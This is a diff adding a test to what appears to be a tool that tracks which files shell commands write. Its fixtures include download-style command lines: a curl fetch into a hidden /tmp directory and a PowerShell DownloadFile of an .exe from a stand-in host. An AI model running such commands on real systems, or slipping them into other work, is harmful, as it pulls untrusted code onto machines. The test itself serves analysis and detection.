@@ -10,6 +10,7 @@ import {
   MAX_ORIGINS,
   resolvePath,
   scriptRunBy,
+  WrittenFiles,
 } from './provenance.js';
 
 const written = (command: string) => filesWrittenBy(command).map((f) => `${f.how} ${f.path}`);
@@ -51,6 +52,24 @@ test('writers spelled in pieces, upper case or by path are still read: the short
   assert.deepEqual(fetched('echo 1>/tmp/flag'), ['/tmp/flag']);
   assert.deepEqual(fetched('ls -la /var/www/alpha'), []);
   assert.deepEqual(fetched('python3 worker.py --queue jobs'), []);
+});
+
+test("an engine's remembered answers are filesWrittenBy's, asked again, past the bound, and for lines too long to keep", () => {
+  const memo = new WrittenFiles();
+  const lines = [
+    'curl -fsSLo /tmp/.x/a http://h/a',
+    "sh -c 'test -x /usr/sbin/anacron || run-parts /etc/cron.daily'",
+    'ls -la /var/www/alpha',
+    "powershell -c (New-Object Net.WebClient).DownloadFile('http://h/u.exe','C:\\u.exe'); echo x > C:\\v",
+    `cp /tmp/a /opt/${'d'.repeat(2000)}/`,
+  ];
+  for (let round = 0; round < 2; round++)
+    for (const line of lines) assert.deepEqual(memo.of(line), filesWrittenBy(line), line);
+  for (let i = 0; i < 5000; i++) {
+    const line = `cp /tmp/a /tmp/b${i}`;
+    assert.deepEqual(memo.of(line), [{ path: `/tmp/b${i}`, how: 'copied' }]);
+  }
+  for (const line of lines) assert.deepEqual(memo.of(line), filesWrittenBy(line), line);
 });
 
 test('relative paths resolve against the working directory, or not at all', () => {
